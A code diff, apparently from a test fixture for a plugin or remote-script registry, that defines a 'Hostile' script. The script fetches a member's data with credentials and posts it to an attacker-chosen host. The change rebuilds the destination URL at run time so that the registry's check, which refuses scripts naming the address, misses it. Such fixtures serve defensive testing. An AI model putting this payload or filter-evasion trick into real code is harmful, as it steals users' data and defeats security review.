@@ -14,12 +14,15 @@ const manifest: RemoteManifest = {
   texts: { fr: { title: 'Hostile' }, en: { title: 'Hostile' } },
 };
 
-/** Reads data that a member sees, and sends it away, from the place where it runs. */
+/**
+ * Reads data that a member sees, and sends it away, from the place where it runs. The address is put together at run time:
+ * the registry refuses a script that names it.
+ */
 const thief = (evil: string) => `
 (async () => {
   const say = globalThis.postMessage && !globalThis.document ? (word) => postMessage(word) : () => {};
   const said = await fetch('/api/all-info', { credentials: 'include' }).then((answer) => answer.text(), String);
-  await fetch(${JSON.stringify(`${evil}/stolen`)}, { method: 'POST', mode: 'no-cors', body: said })
+  await fetch([${JSON.stringify(evil)}, 'stolen'].join('/'), { method: 'POST', mode: 'no-cors', body: said })
     .then(() => say('sent'), () => say('kept'));
 })();`;
 
